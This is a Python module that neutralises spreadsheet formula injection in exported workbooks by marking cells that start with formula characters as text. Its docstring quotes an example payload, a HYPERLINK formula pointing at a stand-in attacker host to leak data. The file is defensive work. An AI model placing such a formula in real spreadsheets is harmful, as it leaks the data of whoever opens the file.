"""Spreadsheet cells that never turn user text into a formula (formula injection, OWASP).

Excel, WPS and LibreOffice treat a cell that starts with = + - @, a tab or a
carriage return as a formula (or start one with it); a shop name like
`=HYPERLINK("http://evil.example/?leak","x")` would run in the district office.
Every workbook the product writes passes its values through `safe_cell()`, and
the registry import reads them back through `cell_text()`, so a value survives
export and re-import unchanged and is never written as a formula.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A leading apostrophe is the spreadsheet convention for "this is text".
TEXT_MARK = "'"


def safe_cell(value: Any) -> Any:
    """The value to write in a cell: text that a spreadsheet would read as a formula is marked as text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return TEXT_MARK + value
    return value


def cell_text(value: str) -> str:
    """A cell's text as the user typed it: the mark `safe_cell()` added is taken off again."""
    if value.startswith(TEXT_MARK) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
